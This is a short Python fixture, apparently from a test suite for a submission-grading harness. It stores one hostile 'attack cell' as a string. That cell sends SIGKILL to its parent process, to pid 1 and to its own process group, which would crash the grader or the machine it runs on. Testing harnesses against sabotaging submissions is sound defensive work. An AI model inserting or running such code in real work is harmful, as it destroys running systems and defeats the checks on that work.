"""Sends SIGKILL to its parent, its process group and pid 1."""

HONEST = None  # a wrong-corpus entry holding this submission's honest work, if any
ATTACK = {  # cells replaced by hostile code (their honest content: nothing)
}
ATTACK_CELLS = [  # hostile cells inserted after the imports
    'import os, signal\nfor target in (os.getppid(), 1):\n    try:\n        os.kill(target, signal.SIGKILL)\n    except OSError:\n        pass\ntry:\n    os.killpg(0, signal.SIGKILL)\nexcept OSError:\n    pass',
]
TOUCHES = ()  # exercises the attack itself may break (self-inflicted)
